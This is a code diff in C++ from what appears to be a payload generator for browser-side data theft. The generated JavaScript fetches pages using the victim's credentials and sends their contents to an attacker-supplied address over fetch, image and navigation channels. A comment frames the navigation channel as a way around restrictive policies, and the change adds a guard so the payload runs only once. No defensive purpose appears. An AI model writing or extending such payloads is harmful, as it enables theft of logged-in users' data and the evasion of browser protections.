@@ -34,6 +34,10 @@ std::string fetch_and_send(std::string const& page, std::string const& address) 
            "});";
 }
 
+std::string once(std::string const& script) {
+    return "if(!window.taken){window.taken=1;" + script + "}";
+}
+
 std::string taking_script(Target const& target, std::string const& address) {
     std::string script;
     // Where a policy leaves no other way out, what was fetched leaves as an address.
@@ -43,9 +47,9 @@ std::string taking_script(Target const& target, std::string const& address) {
             ",{credentials:\"include\"}).then(r=>r.text()).then(t=>{" +
             send_script(Channel::Fetch, address, "t") + send_script(Channel::Image, address, "t") +
             send_script(Channel::Navigation, address, std::string(kAllInReach) + "+t") + "});";
-    return script + send_script(Channel::Fetch, address, kAllInReach) +
-           send_script(Channel::Image, address, kAllInReach) +
-           send_script(Channel::Navigation, address, kAllInReach);
+    return once(script + send_script(Channel::Fetch, address, kAllInReach) +
+                send_script(Channel::Image, address, kAllInReach) +
+                send_script(Channel::Navigation, address, kAllInReach));
 }
 
 std::string fetch_script(std::string_view method, std::string const& address, std::string_view type,
